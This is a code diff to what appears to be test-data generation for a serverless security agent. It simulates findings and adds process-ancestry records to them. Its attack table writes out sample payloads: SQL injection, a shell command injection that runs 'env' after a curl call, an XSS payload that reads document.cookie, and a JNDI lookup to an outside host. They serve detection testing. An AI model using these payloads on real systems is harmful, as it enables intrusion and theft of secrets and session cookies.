@@ -56,13 +56,16 @@ export const functions = [
   ["stock-sync", "777788889999", "eu-west-1", "/var/task/bootstrap", "detect"], ["partner-feed", "777788889999", "eu-west-1", "/var/lang/bin/dotnet", "off"],
 ].map(([name, account, region, runtime, mode], at) => ({ name, account, region, runtime, mode, code: `c0de${at}`.repeat(5) }));
 
+const RUNTIME = { pid: 12, path: "/var/lang/bin/node", arguments: ["node", "/var/runtime/index.mjs", "index.handler"] };
+const SHELL = { pid: 214, path: "/bin/sh", arguments: ["/bin/sh", "-c", "curl --silent -L http://files.example/a.doc;env # | catdoc -"] };
+
 // What attacks look like: [type, class, control, severity, reason, message, input, activity, attack, cwe, weight]
 const attacks = [
   { type: "SQL Injection Attack", class: "sqli", control: "firewall", severity: "critical", reason: "sql_tautology", confidence: "high", attack: ["T1190"], cwe: 89, weight: 5,
     path: "queryStringParameters.q", origin: "query", value: "boots' OR 1=1 -- x", bad: "' OR 1=1 --" },
   { type: "Command Injection Attack", class: "cmdi", control: "flow", severity: "critical", reason: "flow_shell_command", confidence: "high", attack: ["T1059.004"], cwe: 78, weight: 3,
     path: "queryStringParameters.document_url", origin: "query", value: "http://files.example/a.doc;env #", bad: ";env", says: "`queryStringParameters.document_url` made the shell run `env`",
-    activity: { kind: "process_start", subject: "/bin/sh", arguments: ["/bin/sh", "-c", "curl --silent -L http://files.example/a.doc;env # | catdoc -"], pid: 214 } },
+    activity: { kind: "process_start", subject: "/bin/sh", arguments: ["/bin/sh", "-c", "curl --silent -L http://files.example/a.doc;env # | catdoc -"], pid: 214 }, processes: [RUNTIME] },
   { type: "Cross Site Scripting Attack", class: "xss", control: "firewall", severity: "high", reason: "html_event_handler", confidence: "high", attack: ["T1190"], cwe: 79, weight: 4,
     path: "body.comment", origin: "body", value: "Nice <img src=x onerror=alert(document.cookie)> shop", bad: "<img src=x onerror=alert(document.cookie)>" },
   { type: "File Inclusion Attack", class: "lfi", control: "flow", severity: "high", reason: "flow_path", confidence: "high", attack: ["T1083", "T1552.001"], cwe: 22, weight: 2,
@@ -76,7 +79,7 @@ const attacks = [
   { type: "JNDI Lookup Attack", class: "jndi", control: "firewall", severity: "critical", reason: "jndi_lookup", confidence: "high", attack: ["T1190"], cwe: 917, weight: 1,
     path: "headers.User-Agent", origin: "header", value: "${jndi:ldap://203.0.113.9/a}", bad: "${jndi:ldap://203.0.113.9/a}" },
   { type: "Process Event", class: "process_start", control: "allowlist", severity: "medium", reason: "not_learned", attack: ["T1059"], weight: 2,
-    says: "`/usr/bin/id` is not in the allowlist", activity: { kind: "process_start", subject: "/usr/bin/id", arguments: ["id", "-u"], pid: 230 } },
+    says: "`/usr/bin/id` is not in the allowlist", activity: { kind: "process_start", subject: "/usr/bin/id", arguments: ["id", "-u"], pid: 230 }, processes: [{ pid: 229 }, RUNTIME] },
   { type: "Host Event", class: "name_lookup", control: "allowlist", severity: "medium", reason: "not_learned", attack: ["T1071"], weight: 1,
     says: "`telemetry.example.net` is not in the allowlist", activity: { kind: "name_lookup", subject: "telemetry.example.net", arguments: [], pid: 12 } },
 ];
@@ -85,11 +88,11 @@ const attackers = ["198.51.100.23", "198.51.100.23", "198.51.100.77", "203.0.113
 
 /** One finding of what ATTACK is, as the agent tells it. */
 export function findingOf(attack, action) {
-  const { type, class: kind, control, severity, reason, confidence, says, activity, cwe } = attack;
+  const { type, class: kind, control, severity, reason, confidence, says, activity, processes, cwe } = attack;
   const input = attack.path && { path: attack.path, origin: attack.origin, value: attack.value, from: Buffer.from(attack.value.slice(0, attack.value.indexOf(attack.bad))).length, length: Buffer.from(attack.bad).length };
   return {
     type, class: kind, control, action, severity, reason, ...(confidence ? { confidence } : {}), message: says ?? `\`${attack.path}\` holds \`${attack.bad}\``,
-    ...(input ? { input } : {}), ...(activity ? { activity } : {}), attack: attack.attack, ...(cwe ? { cwe } : {}),
+    ...(input ? { input } : {}), ...(activity ? { activity } : {}), ...(processes ? { processes } : {}), attack: attack.attack, ...(cwe ? { cwe } : {}),
   };
 }
 
@@ -106,7 +109,7 @@ export function week(now, random = randomFrom(7)) {
       const attack = pool[Math.floor(random() * pool.length)];
       sandbox.finding(time, { ...findingOf(attack, action), request, source_ip });
       if (attack.control === "flow" && action === "observed" && attack.activity.kind === "process_start") {
-        sandbox.finding(time + 14, { ...findingOf(attacks[7], action), request, source_ip, activity: { kind: "process_start", subject: "/usr/bin/env", arguments: ["env"], pid: 215 }, message: "`/usr/bin/env` is not in the allowlist" });
+        sandbox.finding(time + 14, { ...findingOf(attacks[7], action), request, source_ip, activity: { kind: "process_start", subject: "/usr/bin/env", arguments: ["env"], pid: 215 }, processes: [SHELL, RUNTIME], message: "`/usr/bin/env` is not in the allowlist" });
         sandbox.finding(time + 31, { ...findingOf(attacks[8], action), request, source_ip });
       }
     }
@@ -129,7 +132,8 @@ export function hostileLog(now, random = randomFrom(11)) {
     sandbox.finding(now - 60000 + at * 100, {
       type: turn(1), class: turn(2), control: turn(3), action: "observed", severity: "high", reason: turn(4), confidence: turn(5), message: `says ${text}`,
       input: { path: turn(1), origin: turn(2), value: `${turn(3)}${text}${turn(4)}`, from: Buffer.from(turn(3)).length, length: Buffer.from(text).length },
-      activity: { kind: turn(6), subject: turn(7), object: turn(8), arguments: [text, turn(1), turn(9)], pid: 9 }, rule: { name: turn(2), reason: turn(5) },
+      activity: { kind: turn(6), subject: turn(7), object: turn(8), arguments: [text, turn(1), turn(9)], pid: 9 },
+      processes: [{ pid: 9, path: turn(3), arguments: [turn(4), text] }, { pid: 8 - at, path: turn(5) }, { pid: 9, path: turn(6) }], rule: { name: turn(2), reason: turn(5) },
       attack: [turn(1), "T1059.004"], cwe: 79, source_ip: turn(0), request: turn(3),
     });
   });
@@ -142,7 +146,7 @@ export function hostileLog(now, random = randomFrom(11)) {
   sandbox.finding(now - 50000, { type: "Process Event", class: "process_start", control: "allowlist", action: "observed", severity: "low", reason: "x", message: "odd shapes",
     input: "no object", activity: ["no", "object"], attack: "T1", cwe: "79", rule: 5 });
   sandbox.finding(now - 49000, { type: "Process Event", class: "process_start", control: "allowlist", action: "observed", severity: "low", reason: "x", message: "odd numbers",
-    input: { path: 7, value: "short", from: -3, length: 99999 }, activity: { kind: "connect", subject: 5, arguments: [1, null, {}] } });
+    input: { path: 7, value: "short", from: -3, length: 99999 }, activity: { kind: "connect", subject: 5, arguments: [1, null, {}] }, processes: [null, "x", { pid: "9" }, { pid: 1e300, path: {}, arguments: 7 }, []] });
   return sandbox.lines.join("\n") + "\n";
 }
 
